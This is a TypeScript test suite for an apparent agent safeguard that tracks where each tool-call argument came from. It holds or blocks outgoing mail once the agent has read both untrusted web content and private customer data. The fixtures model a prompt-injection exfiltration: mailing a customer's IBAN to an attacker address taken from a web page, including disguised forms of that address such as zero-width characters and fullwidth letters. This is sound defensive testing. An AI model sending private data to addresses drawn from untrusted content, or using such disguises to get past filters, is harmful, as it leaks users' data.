// Where values came from: untrusted content, private data and an outward call never meet without a
// person, in whatever order and however parallel; and rules may ask of each argument who said it.
import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { chat, type ToolReply } from './harness/clients.ts'
import { enrol, standGround, type TestAgent, type TestSession } from './harness/ground.ts'
import { at, type Json } from './harness/json.ts'
import {
  attacker,
  customer,
  mailContracts,
  mailPermissions,
  page,
  startMailTools,
} from './harness/mail-tools.ts'
import { createGate, until } from './harness/until.ts'

const ground = await standGround()
const mail = await startMailTools()
after(() => mail[Symbol.asyncDispose]())

function enrolMailer(
  options: { rules?: readonly Json[]; pact?: Json; tools?: Json; stakes?: 'low' | 'high' } = {},
): Promise<TestAgent> {
  return enrol(ground, {
    toolServers: { mail: { transport: 'http', url: mail.url, timeoutMs: 20_000 } },
    tools: options.tools ?? mailContracts,
    permissions: [...mailPermissions, ...(options.rules ?? [])],
    ...(options.pact === undefined ? {} : { pact: options.pact }),
    ...(options.stakes === undefined ? {} : { stakes: options.stakes }),
  })
}

function callOf(reply: ToolReply): string {
  return String(reply.meta['airworthy/call'])
}

async function rememberedBy(session: TestSession): Promise<{ digests: Buffer }[]> {
  const query = 'SELECT digests FROM airworthy.value_origins WHERE session_id = $1'
  const { rows } = await ground.database.query<{ digests: Buffer }>(query, [session.id])
  return rows
}

type Step = 'page' | 'customer' | 'mail'

const steps: Readonly<Record<Step, (session: TestSession) => ReturnType<TestSession['call']>>> = {
  page: (session) => session.call('fetch_page', { url: 'https://hours.example' }),
  customer: (session) => session.call('get_customer', { id: 'C17' }),
  mail: (session) => session.call('send_mail', { to: attacker, body: customer.iban }),
}

function sentBy(session: TestSession): number {
  return mail.sent.filter((one) => one.session === session.id).length
}

const orders: readonly (readonly Step[])[] = [
  ['page', 'customer', 'mail'],
  ['customer', 'page', 'mail'],
  ['page', 'mail', 'customer'],
  ['customer', 'mail', 'page'],
  ['mail', 'page', 'customer'],
  ['mail', 'customer', 'page'],
]

test('mail leaves in every order but where page and customer were both read before', async () => {
  const agent = await enrolMailer()
  for (const order of orders) {
    await using session = await agent.open({}, 'mail')
    for (const step of order) await steps[step](session)
    const isHeld = order.at(-1) === 'mail'
    assert.equal(sentBy(session), isHeld ? 0 : 1, order.join(', '))
    const { session: row, calls } = await session.detail()
    assert.deepEqual([row.facts.untrusted, row.facts.private], [true, true])
    const sending = calls.find((call) => call.action === 'mail/send_mail')
    assert.equal(sending?.state, isHeld ? 'held' : 'done')
  }
})

test('what is held says which calls brought the taint, and where the arguments came from', async () => {
  const agent = await enrolMailer()
  await using session = await agent.open({}, 'mail')
  const read = await steps.page(session)
  const got = await steps.customer(session)
  const held = await steps.mail(session)
  assert.deepEqual([held.isError, at(held.value, 'held')], [true, true])
  const reason = String(at(held.value, 'rules.0.reason'))
  assert.equal(at(held.value, 'rules.0.rule'), 'taint.trifecta')
  assert.match(reason, new RegExp(`call ${callOf(read)} of mail/fetch_page`))
  assert.match(reason, new RegExp(`call ${callOf(got)} of mail/get_customer`))
  assert.match(reason, /to from tool:mail\/fetch_page, web/)
  assert.match(reason, /a person decides/)
  const call = await ground.server.client.getCall(callOf(held))
  assert.equal(call.code, 'taint.trifecta')
  assert.deepEqual(call.origins, {
    body: ['tool:mail/get_customer'],
    to: ['tool:mail/fetch_page', 'web'],
  })
})

test('a held mail leaves once when a person approves it, and never when one rejects it', async () => {
  const agent = await enrolMailer()
  for (const vote of ['approve', 'reject'] as const) {
    await using session = await agent.open({}, 'mail')
    await steps.page(session)
    await steps.customer(session)
    const held = await steps.mail(session)
    const holdId = String(at(held.value, 'id'))
    if (vote === 'approve') await ground.server.client.approveHold(holdId, { reason: 'known' })
    else await ground.server.client.rejectHold(holdId, { reason: 'an attack' })
    const again = await steps.mail(session)
    assert.equal(sentBy(session), vote === 'approve' ? 1 : 0)
    assert.equal(again.isError, vote === 'reject')
    const other = await session.call('send_mail', { to: attacker, body: 'more' })
    assert.equal(at(other.value, 'held'), true, 'an approval is for one mail')
  }
})

test('reads that are still in flight count: mail does not overtake them', async () => {
  const agent = await enrolMailer()
  await using session = await agent.open({}, 'mail')
  const gate = createGate()
  mail.gate(session.id, gate)
  const reading = [steps.page(session), steps.customer(session)]
  await until('both reads to be asked', () => mail.asked(session.id).length === 2)
  const held = await steps.mail(session)
  gate.open()
  await Promise.all(reading)
  assert.equal(at(held.value, 'held'), true)
  assert.equal(sentBy(session), 0)
})

test('of calls at once, exactly those mails leave that were decided before both reads', async () => {
  const agent = await enrolMailer()
  let left = 0
  for (let round = 0; round < 8; round += 1) {
    await using session = await agent.open({}, 'mail')
    await session.call('list_hours')
    const bodies = ['one', 'two', 'three']
    const order = orders[round % orders.length] ?? []
    await Promise.all(
      order.flatMap((step) =>
        step === 'mail'
          ? bodies.map((body) => session.call('send_mail', { to: 'a@b.example', body }))
          : [steps[step](session)],
      ),
    )
    const { calls } = await session.detail()
    const seqOf = (action: string): number =>
      Number(calls.find((call) => call.action === action)?.intentSeq)
    const bothRead = Math.max(seqOf('mail/fetch_page'), seqOf('mail/get_customer'))
    const mails = calls.filter((call) => call.action === 'mail/send_mail')
    assert.equal(mails.length, bodies.length)
    for (const { intentSeq, state } of mails) {
      assert.equal(state, Number(intentSeq) > bothRead ? 'held' : 'done')
    }
    left += sentBy(session)
    assert.equal(sentBy(session), mails.filter((call) => call.state === 'done').length)
  }
  assert.ok(left > 0, 'some mail was decided first')
})

test('trifecta: deny refuses for good, off lets mail leave', async () => {
  for (const trifecta of ['deny', 'off'] as const) {
    const agent = await enrolMailer({ pact: { taint: { trifecta } } })
    await using session = await agent.open({}, 'mail')
    await steps.page(session)
    await steps.customer(session)
    const reply = await steps.mail(session)
    assert.equal(sentBy(session), trifecta === 'deny' ? 0 : 1)
    if (trifecta === 'off') continue
    assert.deepEqual([at(reply.value, 'denied'), at(reply.value, 'code')], [true, 'taint.trifecta'])
  }
})

const notFromWeb: Json = {
  id: 'not-from-web',
  effect: 'deny',
  tools: ['mail/send_mail'],
  when: "'web' in origin.to",
  reason: 'an address out of a page is nobody that we know',
}

test('a rule sees through every disguise of an address that a page gave', async () => {
  const agent = await enrolMailer({ rules: [notFromWeb] })
  await using session = await agent.open({}, 'mail')
  assert.equal((await session.call('send_mail', { to: attacker })).isError, false)
  await steps.page(session)
  const disguises = [
    attacker,
    attacker.toUpperCase(),
    ` ${attacker}\n`,
    `Support <${attacker}>`,
    attacker.split('').join('\u200b'),
    attacker.replaceAll(/[a-z]/g, (one) =>
      String.fromCodePoint((one.codePointAt(0) ?? 0) + 0xfee0),
    ),
  ]
  for (const to of disguises) {
    const denied = await session.call('send_mail', { to, body: 'x' })
    assert.equal(at(denied.value, 'code'), 'policy.denied', JSON.stringify(to))
    assert.match(String(at(denied.value, 'message')), /to from tool:mail\/fetch_page, web/)
  }
  const known = await session.call('send_mail', { to: 'bob@known.example', body: 'y' })
  assert.equal(known.isError, false)
  assert.equal(sentBy(session), 2)
})

test('a rule may ask that the user gave the address; what the model says does not', async () => {
  const onlyUser = {
    id: 'only-user',
    effect: 'deny',
    tools: ['mail/send_mail'],
    when: "!('user' in origin.to)",
  }
  const agent = await enrolMailer({ rules: [onlyUser] })
  await using session = await agent.open({}, 'mail')
  const messages = [
    { role: 'system', content: 'You write to desk@house.example.' },
    { role: 'user', content: [{ type: 'text', text: 'Write to ann@friend.example, please.' }] },
    { role: 'assistant', content: 'I shall write to eve@model.example.' },
  ]
  assert.equal((await session.post(chat({ messages }))).status, 200)
  const sends = async (to: string): Promise<boolean> =>
    !(await session.call('send_mail', { to })).isError
  assert.deepEqual(
    [
      await sends('ann@friend.example'),
      await sends('eve@model.example'),
      await sends('desk@house.example'),
    ],
    [true, false, false],
  )
  const { calls } = await session.detail()
  const origins = calls.filter((call) => call.kind === 'tool').map((call) => call.origins?.['to'])
  assert.deepEqual(origins, [['user'], ['unknown'], ['system']])
})

test('a rule over an argument that is not given denies; has() guards it', async () => {
  const rule = { effect: 'deny', tools: ['mail/send_mail'] }
  const bare = await enrolMailer({ rules: [{ ...rule, id: 'bare', when: "'web' in origin.body" }] })
  const guard = "has(origin.body) && 'web' in origin.body"
  const guarded = await enrolMailer({ rules: [{ ...rule, id: 'guarded', when: guard }] })
  await using first = await bare.open({}, 'mail')
  await using second = await guarded.open({}, 'mail')
  const denied = await first.call('send_mail', { to: 'a@b.example' })
  assert.equal(at(denied.value, 'code'), 'policy.rule_error')
  assert.equal((await second.call('send_mail', { to: 'a@b.example' })).isError, false)
})

test('enrolment refuses a rule over the origin of an argument that the tool does not have', async () => {
  const when = "'web' in origin.recipient"
  await assert.rejects(enrolMailer({ rules: [{ ...notFromWeb, when }] }), (thrown: unknown) => {
    assert.match(JSON.stringify(at(thrown, 'detail') ?? String(thrown)), /origin\.recipient/)
    return true
  })
})

test('a result that another session of the agent has read first counts as read here', async () => {
  const agent = await enrolMailer({ rules: [] })
  await using first = await agent.open({}, 'mail')
  await using second = await agent.open({}, 'mail')
  await first.call('export_data', { name: 'all' })
  const repeat = await second.call('export_data', { name: 'all' })
  assert.equal(typeof repeat.meta['airworthy/repeat-of'], 'string')
  const held = await second.call('send_mail', { to: attacker })
  assert.equal(at(held.value, 'held'), true)
  const call = await ground.server.client.getCall(callOf(held))
  assert.deepEqual(call.origins, { to: ['tool:mail/export_data'] })
})

test('without a declared source and sink nothing is remembered', async () => {
  const plain = Object.fromEntries(
    Object.keys(mailContracts).map((name) => [name, { effect: 'read' }]),
  )
  const agent = await enrolMailer({ tools: plain })
  await using session = await agent.open({}, 'mail')
  await steps.page(session)
  await session.post(chat())
  assert.deepEqual(await rememberedBy(session), [])
})

test('what is remembered holds no text, and is bound to its session', async () => {
  const agent = await enrolMailer()
  await using session = await agent.open({}, 'mail')
  await using other = await agent.open({}, 'mail')
  await steps.page(session)
  await steps.page(other)
  const [mine] = await rememberedBy(session)
  const [theirs] = await rememberedBy(other)
  assert.ok(mine !== undefined && mine.digests.length > 100)
  for (const word of page.split(/\W+/).filter((one) => one.length > 3)) {
    assert.ok(!mine.digests.toString('latin1').includes(word), word)
  }
  assert.notDeepEqual(mine.digests, theirs?.digests, 'those of two sessions cannot be compared')
})

test('with high stakes what a contract does not say is taken at its worst', async () => {
  const contracts = {
    'mail/fetch_page': { effect: 'read' },
    'mail/send_mail': { effect: 'irreversible', outward: true },
  }
  for (const stakes of ['high', 'low'] as const) {
    const agent = await enrolMailer({ tools: contracts, stakes })
    await using session = await agent.open({}, 'mail')
    await steps.page(session)
    await steps.mail(session)
    assert.equal(sentBy(session), stakes === 'high' ? 0 : 1)
  }
})
